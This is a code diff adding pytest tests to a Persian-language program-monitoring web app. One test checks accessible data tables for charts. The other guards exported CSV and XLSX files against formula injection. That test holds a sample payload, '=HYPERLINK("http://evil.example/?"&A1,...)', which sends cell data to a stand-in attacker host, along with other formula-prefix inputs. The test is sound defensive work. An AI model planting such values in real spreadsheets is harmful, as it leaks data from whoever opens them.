@@ -263,3 +263,41 @@ def test_program_pages_are_valid_html_and_name_bad_fields(client, make_user, sig
     assert created.status_code == 302
     page = client.get(f"/programs/{program.id}").get_data(as_text=True)
     assert "ابر" in page and "۱ فروردین ۱۴۰۴" in page
+
+
+def test_each_chart_is_described_by_a_table_of_its_figures(client, make_user, sign_in, crafted):
+    """A chart is a picture: screen readers and text browsers get its figures as a table."""
+    ministry, program = crafted["ministry"], crafted["program"]
+    sign_in(client, make_user(Role.overseer))
+    root = parse_html(client.get(f"/programs/{program.id}/dashboard").get_data(as_text=True))
+    summary = root.find(".//canvas[@id='summary-chart']")
+    table = root.find(f".//table[@id='{summary.get('aria-describedby')}']")
+    rows = {r.find("th").text: [td.text for td in r.findall("td")] for r in table.find("tbody").iter("tr")}
+    # columns: met, on track, at risk, missed, no data; electronic: office met, ministry at risk
+    assert rows[crafted["electronic"].title_fa][:3] == ["۱", "۰", "۱"]
+
+    root = parse_html(client.get(f"/programs/{program.id}/agencies/{ministry.id}").get_data(as_text=True))
+    for canvas in root.iter("canvas"):
+        table = root.find(f".//table[@id='{canvas.get('aria-describedby')}']")
+        assert table is not None and table.find("caption").text
+    trend = root.find(f".//table[@id='trend-{crafted['electronic'].id}']")
+    values = [r.find("td").text for r in trend.find("tbody").iter("tr")]
+    assert values == ["۷۵٫۰٪", "—"]  # today's value, then the deadline ahead
+
+
+def test_exports_never_hold_a_formula(overseer_client, db_session, crafted):
+    """Issue 15: an agency's name such as `=HYPERLINK(...)` ran as a formula in the exported sheet."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    names = [hostile, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+    for name in names:
+        f.agency(db_session, AgencyKind.organization, name=name)
+    services.take_snapshot(db_session, SYSTEM, today())
+    program = crafted["program"]
+    text = overseer_client.get(f"/programs/{program.id}/dashboard.csv?lang=en").get_data().decode("utf-8-sig")
+    cells = {r[1] for r in csv.reader(io.StringIO(text, newline=""))}
+    assert {"'" + name for name in names} <= cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    book = load_workbook(io.BytesIO(overseer_client.get(f"/programs/{program.id}/dashboard.xlsx").data))
+    written = {row[1].value: row[1].data_type for row in book.active.iter_rows(min_row=2)}
+    assert {name: written.get(name) for name in names[:4]} == dict.fromkeys(names[:4], "s")  # text
+    assert not [c.coordinate for row in book.active.iter_rows() for c in row if c.data_type == "f"]
